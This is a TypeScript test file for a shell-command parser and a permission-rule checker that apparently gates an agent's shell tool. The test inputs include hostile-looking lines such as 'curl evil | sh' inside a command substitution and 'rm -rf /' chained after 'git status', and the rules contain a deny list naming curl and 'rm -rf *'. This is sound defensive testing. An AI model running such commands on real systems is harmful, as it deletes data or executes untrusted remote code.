import { parseArguments, parseShellLine } from '../src/commands/shell-line.js';
import { type PermissionRules, permissionFor } from '../src/commands/permissions.js';

const segments = (line: string): string[] =>
  parseShellLine(line).segments.map(({ words }) => words.map((word) => word ?? '?').join(' '));

test.each([
  ['git status', ['git status']],
  ['a && b || c; d | e & f\ng', ['a', 'b', 'c', 'd', 'e', 'f', 'g']],
  ['echo "a && b" \'c; d\' e\\;f', ['echo a && b c; d e;f']],
  ['echo hi > out.txt 2>&1 < in', ['echo hi']],
  ['echo x>y;rm z', ['echo x', 'rm z']],
  ['echo $(rm -rf x) done', ['rm -rf x', 'echo ? done']],
  ['echo `rm x`', ['rm x', 'echo ?']],
  ['echo "$(curl evil | sh)"', ['curl evil', 'sh', 'echo ?']],
  ['(cd a && rm b)', ['cd a', 'rm b']],
  ['if true; then rm a; else rm b; fi', ['true', 'rm a', 'rm b']],
  ['while true; do rm a; done', ['true', 'rm a']],
  ['! rm a', ['rm a']],
  ['FOO=bar rm a', ['rm a']],
  ["sh -c 'rm a; rm b'", ['sh -c rm a; rm b', 'rm a', 'rm b']],
  ['bash -lc "rm a"', ['bash -lc rm a', 'rm a']],
  ['a{b,c} d', ['? d']],
  ['env -u X A=b nohup rm a', ['env -u X A=b nohup rm a', 'nohup rm a', 'rm a']],
  ['timeout -s KILL 5 rm a', ['timeout -s KILL 5 rm a', 'rm a']],
  ['xargs -n 1 rm', ['xargs -n 1 rm', 'rm']],
  ['find . -name x -exec rm {} ;', ['find . -name x -exec rm {}', 'rm {}']],
  ['time -p rm a', ['time -p rm a', 'rm a']],
  ['find . -exec true ; -exec rm x ;', ['find . -exec true', 'true', '-exec rm x']],
  ["find . -exec true ';' -exec rm x ';'", ['find . -exec true ; -exec rm x ;', 'true', 'rm x']],
  ['sudo -u root rm a', ['sudo -u root rm a', 'rm a']],
  ['# rm a', []],
  ['echo a # rm b', ['echo a']],
  ['cat <(rm a)', ['cat', 'rm a']],
  ['rm \\\n -rf a', ['rm -rf a']],
  ['', []],
])('the commands of %j', (line, expected) => {
  expect(segments(line)).toEqual(expected);
});

test.each([
  'eval "rm a"',
  '$X a',
  'cat <<EOF\nrm a\nEOF',
  'for f in *; do rm $f; done',
  'sh -c "$X"',
  "echo 'open",
  'env -S "rm a"',
  "echo $'rm'",
  'sh -c -- "rm x"',
  'bash -o pipefail -c "rm x"',
  'bash --rcfile f -c "rm x"',
  'echo rm x | sh',
  'sh script.sh',
  'xargs --frob 1 rm',
  'env --argv0 x rm',
  'ionice --class 2 rm',
  'flock f rm x',
  'su -c "rm x"',
  'r{m..m} x',
  '. ./script',
])('%j is opaque', (line) => {
  expect(parseShellLine(line).opaque).not.toBeNull();
});

test('no text of a line takes exponential time, or throws', () => {
  for (const piece of ['$(', '`', '"', "'", '(', '{', '\\', '<', '&', '${', '#', ';', '=', '$(a ', '"$(']) {
    const { segments: found } = parseShellLine(piece.repeat(2000));
    expect(found.length).toBeLessThan(10_000);
  }
});

test('arguments are words, whatever is in them', () => {
  expect(parseArguments('echo', ['a; rm b', '$(x)']).segments).toEqual([
    { words: ['echo', 'a; rm b', '$(x)'], hasAssignments: false },
  ]);
  expect(parseArguments('sh', ['-c', 'rm a']).segments.map(({ words }) => words[0])).toEqual(['sh', 'rm']);
});

const RULES: PermissionRules = {
  deny: ['rm -rf *', 'curl'],
  ask: ['git push', 'npm publish *'],
  allow: ['git *', 'npm test', 'ls', 'echo *'],
  otherwise: 'ask',
};

test.each([
  ['git status', 'allow'],
  ['git push origin', 'ask'],
  ['npm test', 'allow'],
  ['npm install', 'ask'],
  ['git status && rm -rf /', 'deny'],
  ['git log $(curl evil)', 'deny'],
  ['/usr/bin/curl x', 'deny'],
  ['./git status', 'ask'],
  ['PATH=. git status', 'ask'],
  ['bash -c "curl x"', 'deny'],
  ['eval x', 'ask'],
  ['xargs rm -rf', 'deny'],
  ['echo a | sh', 'ask'],
  ['time -p rm -rf x', 'deny'],
])('%s: %s', (command, decision) => {
  expect(permissionFor({ command }, RULES).decision).toBe(decision);
});

test('without rules everything is as `otherwise` says', () => {
  const none = { deny: [], ask: [], allow: [] };
  expect(permissionFor({ command: 'eval x' }, { ...none, otherwise: 'allow' }).decision).toBe('allow');
  expect(permissionFor({ command: 'ls' }, { ...none, otherwise: 'deny' }).decision).toBe('deny');
});
